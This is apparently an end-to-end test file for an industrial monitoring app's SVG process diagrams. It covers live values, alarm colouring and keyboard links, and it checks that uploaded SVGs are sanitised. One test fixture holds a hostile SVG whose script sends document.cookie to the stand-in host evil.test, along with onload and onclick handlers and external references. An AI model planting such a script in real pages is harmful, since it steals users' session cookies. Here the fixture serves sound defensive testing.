import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { apiPaths, isolate } from '@plant/shared-schema';
import { DEMO_USERS } from '../server/src/seed/demo';
import { demoGateway, linkedAgent } from '../server/src/testing/gateway-client';
import { dataOf } from '../server/src/testing/harness';
import { E2e } from './support/fixture';
import { DiagramPageModel } from './support/pages/diagrams';

/*
 * Process diagrams (issue 37 item 4) on a 1024 x 768 tablet: a diagram of a machine whose text
 * is bound to the motor's temperature and whose motor shape to the same stream's alarm. Live
 * values from the machine's gateway show in the text with their unit; the shape turns red when
 * the alarm raises; Enter on a bound element opens its stream. In the editor, an uploaded SVG
 * with a script, an event handler and references to another site is cleaned: the page says what
 * it removed, and the stored diagram holds none of it.
 */
let e2e: E2e;

beforeAll(async () => {
  e2e = await E2e.start(inject('clientDist'));
});
afterAll(() => e2e.close());

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const PICTURE =
  `<svg ${NS} viewBox="0 0 400 200" width="400" height="200">` +
  '<rect id="motor" x="20" y="40" width="160" height="100" fill="#adb5bd" stroke="#343a40"/>' +
  '<text id="temp" x="220" y="100" font-size="24">?</text></svg>';
const HOSTILE =
  `<?xml version="1.0"?>\n<svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 200" onload="alert(1)">` +
  '<script>fetch("https://evil.test/?" + document.cookie)</script>' +
  '<image href="https://evil.test/photo.png" width="10" height="10"/>' +
  '<use xlink:href="https://evil.test/sprite.svg#pump"/>' +
  '<rect id="motor" x="20" y="40" width="160" height="100" fill="#868e96" onclick="alert(2)"/>' +
  '<text id="temp" x="220" y="100">?</text></svg>';

describe('process diagrams', () => {
  it('a bound text shows the live value, a bound shape turns red on the alarm; an upload is cleaned', async () => {
    const admin = await e2e.session(DEMO_USERS.admin);
    // A machine without the demo's own alarms (those are on the first two).
    const gw = await demoGateway(e2e.server, admin.accountId, 3);
    const temp = gw.streams['Motor temperature'] ?? '';
    const alarm = await e2e.server.call('POST', apiPaths.collection('alarms'), {
      token: admin.token,
      json: {
        asset_id: gw.assetId,
        datastream_id: temp,
        name: 'Motor too hot',
        upper_limit: 80,
        severity: 'critical',
      },
    });
    expect(alarm.status, alarm.text).toBe(201);
    const made = await e2e.server.call('POST', apiPaths.collection('diagrams'), {
      token: admin.token,
      json: {
        asset_id: gw.assetId,
        name: 'Motor cooling',
        svg: PICTURE,
        bindings: [
          { element: 'temp', stream_id: temp, show: 'value' },
          { element: 'motor', stream_id: temp, show: 'alarm' },
        ],
      },
    });
    expect(made.status, made.text).toBe(201);
    const diagramId = dataOf<{ id: string }>(made).id;
    const path = `/app/devices/${gw.assetId}/uml/${diagramId}`;

    const tab = await e2e.signedInApp(DEMO_USERS.admin, path);
    const page = tab.page;
    await page.setViewportSize({ width: 1024, height: 768 });
    const diagram = new DiagramPageModel(page);
    await diagram.drawing.waitFor();
    expect(await diagram.bound('motor').getAttribute('data-alarm')).toBe('normal');
    expect(await diagram.fill('motor')).toBe('rgb(173, 181, 189)');

    // Live values from the machine: the text shows each with its unit, without a reload.
    await page.evaluate('window.__notReloaded = true');
    const agent = await linkedAgent(e2e.server, admin.token, gw.gatewayId, 'e2e-diagrams');
    await agent.send([{ stream: temp, ts: Date.now(), value: 61.5 }]);
    await expect.poll(() => diagram.text('temp')).toBe(isolate('61.5 °C'));
    await agent.send([{ stream: temp, ts: Date.now(), value: 72.25 }]);
    await expect.poll(() => diagram.text('temp')).toBe(isolate('72.25 °C'));
    expect(await diagram.bound('motor').getAttribute('data-alarm')).toBe('normal');

    // Past the limit: the alarm raises, and the motor is drawn red.
    const hotAt = Date.now();
    await agent.send([{ stream: temp, ts: hotAt, value: 95 }]);
    await expect.poll(() => diagram.text('temp')).toBe(isolate('95 °C'));
    await expect.poll(() => diagram.bound('motor').getAttribute('data-alarm')).toBe('raised');
    expect(await diagram.fill('motor')).toBe('rgb(224, 49, 49)');
    expect(await page.evaluate('window.__notReloaded')).toBe(true);
    await agent.close();

    // A bound element is a link to its stream: reached by the keyboard, opened by Enter.
    expect(await diagram.bound('temp').getAttribute('tabindex')).toBe('0');
    await diagram.bound('temp').focus();
    await page.keyboard.press('Enter');
    await expect
      .poll(() => new URL(page.url()).pathname)
      .toBe(`/app/devices/${gw.assetId}/input/${temp}`);
    await page.goBack();
    await diagram.drawing.waitFor();

    // An upload with a script, a handler and references to another site: cleaned, and said so.
    await diagram.edit();
    await diagram.upload('hostile.svg', HOSTILE);
    await expect
      .poll(() => diagram.removed())
      .toEqual([
        'attribute onload',
        'element script',
        'element image',
        'link xlink:href',
        'attribute onclick',
      ]);
    await page.getByTestId('diagram-save').click();
    const clean =
      `<svg ${NS} viewBox="0 0 400 200"><use/>` +
      '<rect id="motor" x="20" y="40" width="160" height="100" fill="#868e96"/>' +
      '<text id="temp" x="220" y="100">?</text></svg>';
    const stored = async () =>
      (await e2e.serverModels(admin.accountId, 'diagram')).find((d) => d.id === diagramId)
        ?.attributes;
    await expect.poll(async () => (await stored())?.svg).toBe(clean);
    // The bindings stay: the new picture has elements of the same ids.
    expect((await stored())?.bindings).toHaveLength(2);

    // A text drawn in the page and bound to the stream by the editor's controls.
    await page.getByTestId('diagram-draw-text').click();
    await expect.poll(() => page.getByTestId('diagram-element').inputValue()).toBe('text-1');
    await page.getByTestId('diagram-stream').selectOption(temp);
    await expect.poll(() => page.getByTestId('diagram-show').inputValue()).toBe('value');
    await page.getByTestId('diagram-save').click();
    await expect
      .poll(async () => (await stored())?.bindings)
      .toContainEqual({
        element: 'text-1',
        stream_id: temp,
        show: 'value',
        colors: {},
        alarm_color: null,
      });
    expect((await stored())?.svg).toContain('<text id="text-1"');

    // Back on the picture: the new one, still live, the drawn text showing the value too.
    await page.getByTestId('diagram-done').click();
    await expect.poll(() => diagram.bound('motor').getAttribute('data-alarm')).toBe('raised');
    await expect.poll(() => diagram.text('text-1')).toBe(isolate('95 °C'));
    expect(await diagram.drawing.locator('script, image, foreignObject').count()).toBe(0);

    // A moment chosen on the diagram opens the event inspection of the asset around it.
    const moment = page.getByTestId('inspect-moment-at');
    await moment.fill('');
    await page.getByTestId('inspect-moment-open').click();
    await expect.poll(() => moment.getAttribute('aria-invalid')).toBe('true');
    expect(await page.getByTestId('inspect-moment').textContent()).toContain(
      'Choose a date and time to inspect.',
    );
    const localMinute = await page.evaluate((ts) => {
      const d = new Date(ts - new Date(ts).getTimezoneOffset() * 60_000);
      return d.toISOString().slice(0, 16);
    }, hotAt);
    await moment.fill(localMinute);
    await page.getByTestId('inspect-moment-open').click();
    await expect
      .poll(() => new URL(page.url()).pathname)
      .toMatch(new RegExp(`^/app/devices/${gw.assetId}/eventinspection/[0-9a-f-]+$`));
    const atMinute = Math.floor(hotAt / 60_000) * 60_000;
    await expect
      .poll(() => page.getByTestId('inspection-moment').getAttribute('datetime'))
      .toBe(new Date(atMinute).toISOString());
    await expect
      .poll(() => page.getByTestId('inspection-chart').count())
      .toBe(Object.keys(gw.streams).length);
    await expect
      .poll(async () =>
        (await e2e.serverModels(admin.accountId, 'inspection')).map((m) => ({
          asset: m.attributes.asset_id,
          at: m.attributes.at,
          alarm: m.attributes.alarm_id,
        })),
      )
      .toEqual([{ asset: gw.assetId, at: atMinute, alarm: null }]);
  });
});
